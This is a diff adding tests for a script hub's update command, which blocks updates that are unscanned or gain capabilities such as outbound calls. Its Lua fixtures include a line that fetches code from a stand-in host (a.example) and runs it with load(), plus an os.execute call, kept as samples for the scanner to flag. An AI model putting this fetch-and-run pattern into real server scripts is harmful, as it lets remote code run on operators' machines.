@@ -1,7 +1,10 @@
 import { writeFile } from 'node:fs/promises'
 import { expect, test } from 'vitest'
 
+import { resourceFiles } from '#test-support/game-server.ts'
+import { startHubProxy } from '#test-support/hub-proxy.ts'
 import { createOutdatedServer } from '#test-support/outdated-server.ts'
+import { zipOf } from '#test-support/archives/zip.ts'
 import { startTestApp } from '#test-support/test-app.ts'
 
 const app = await startTestApp()
@@ -55,4 +58,79 @@ test('what a version gained is compared with the installed one, not with those b
 
   expect(update).toMatchObject({ to: '1.2.0', gained: [] })
   expect(await server.run('update', '--yes')).toMatchObject({ code: 0, stderr: '' })
+})
+
+/** A version that the hub has not read yet. */
+async function uploadUnread(id: number, name: string, number: string): Promise<void> {
+  const form = new FormData()
+  form.set('number', number)
+  const files = { 'server.lua': "PerformHttpRequest('https://a.example', print)\n" }
+  form.set('scriptFile', new Blob([new Uint8Array(zipOf(resourceFiles(name, { files })))]), `${number}.zip`)
+  const { status } = await app.request(author, 'POST', `/api/scripts/${id}/versions`, form)
+  expect(status).toBe(201)
+}
+
+test('a version that is not scanned yet needs an answer of its own', async () => {
+  const { server, id, name } = await createOutdatedServer(app, author, {})
+  await uploadUnread(id, name, '1.2.0')
+
+  const refused = await server.run('update', '--yes')
+
+  expect([refused.code, refused.stdout, refused.stderr]).toEqual([
+    3,
+    expect.stringContaining('not scanned yet'),
+    expect.stringContaining('may do more than before: the hub has not compared the versions.'),
+  ])
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
+  expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0 })
+})
+
+test.each<[string, (path: string, text: string) => unknown, string, string[]]>([
+  [
+    'not among the listed versions',
+    (path, text) => (path.includes('/versions?') ? { ...JSON.parse(text), versions: [] } : undefined),
+    'can do more than before',
+    ['calls-out: a.example'],
+  ],
+  [
+    'not on the hub any more',
+    (path) => (path.includes('/changes') ? { error: 'Not found' } : undefined),
+    'may do more than before',
+    ['calls-out'],
+  ],
+])('capabilities are asked for when the installed version is %s', async (_, answer, warning, gained) => {
+  const { server } = await createOutdatedServer(app, author, {
+    'server.lua': "PerformHttpRequest('https://a.example', print)\n",
+  })
+  const proxy = await startHubProxy(app.url, (path, text) => {
+    const changed = answer(path, text)
+    if (changed === undefined) return { text }
+    return { status: path.includes('/changes') ? 404 : 200, text: JSON.stringify(changed) }
+  })
+  for (const path of ['scripthaven.json', 'scripthaven.lock'])
+    await server.write(path, (await server.read(path)).replace(app.url, proxy.url))
+
+  const [update] = JSON.parse((await server.run('outdated', '--json')).stdout)
+
+  expect(update.gained).toEqual(gained)
+  expect(await server.run('update', '--yes')).toMatchObject({
+    code: 3,
+    stderr: expect.stringContaining(warning),
+  })
+})
+
+test('findings that the installed version has are not new', async () => {
+  const downloads = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
+  const { server, publish } = await createOutdatedServer(
+    app,
+    author,
+    { 'server.lua': downloads, 'more.lua': 'return 1\n' },
+    { 'server.lua': downloads },
+  )
+  const titles = async () => JSON.parse((await server.run('outdated', '--json')).stdout)[0].newFindings
+
+  expect(await titles()).toEqual([])
+  await publish('1.2.0', { 'server.lua': `${downloads}os.execute('ls')\n` })
+  expect(await titles()).toEqual([expect.stringMatching(/^(high|medium|low): /)])
+  expect((await server.run('outdated')).stdout).toMatch(/\n {2}new findings: (high|medium|low): /)
 })
